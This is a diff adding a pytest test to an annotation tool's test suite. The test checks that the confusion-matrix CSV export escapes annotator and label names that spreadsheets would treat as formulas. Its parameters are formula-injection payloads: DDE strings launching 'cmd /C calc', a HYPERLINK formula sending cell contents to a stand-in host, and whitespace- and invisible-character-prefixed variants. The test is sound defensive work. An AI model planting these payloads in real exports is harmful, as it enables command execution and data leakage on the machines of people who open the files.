@@ -101,6 +101,26 @@ def test_none_done_and_agreement_from_the_command_line(demo_project, tmp_path):
         assert any(row[1] == "cy" for row in store.annotations.judgements())
 
 
+@pytest.mark.parametrize("name", ["=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+                                  '=HYPERLINK("http://example.invalid/?"&A1,"x")', "=DDE(\"cmd\";\"/C calc\";\"A0\")",
+                                  " " * 70 + "=1+1", "\u200e=1+1"])
+def test_the_confusion_csv_guards_names_a_spreadsheet_would_run(demo_project, tmp_path, name):
+    """Annotator and label names come from --annotator, $ANNOTATOR_NAME or a merged package."""
+    label = name.replace("|", "/").strip() + " label"  # a label's name has no "|" and is stripped
+    with Store.open(demo_project) as store:
+        store.scheme.update(1, label, "1", "#1f77b4", "")
+        for annotator in (name, "bob"):
+            store.annotations.set(5, label, annotator)
+        (stored,) = set(store.annotations.layers()) - {"all", "gold", "bob"}  # as the store keeps it
+    out = tmp_path / "confusion.csv"
+    result = CliRunner().invoke(main, ["agreement", str(demo_project), "--confusion", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
+    (row,) = [row for row in rows if row[1] == "'" + label]
+    assert sorted(row[2:4]) == sorted(["'" + stored, "bob"])
+    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
 def test_three_annotators_on_the_seeds_by_hand(demo_project):
     """Four German seed sentences, three annotators, 'claim' decided as below; computed by hand:
     alpha = 1 - (n - 1) * D_o / sum(n_c n_k) = 1 - 11 * 4 / 72 = 0.3889;
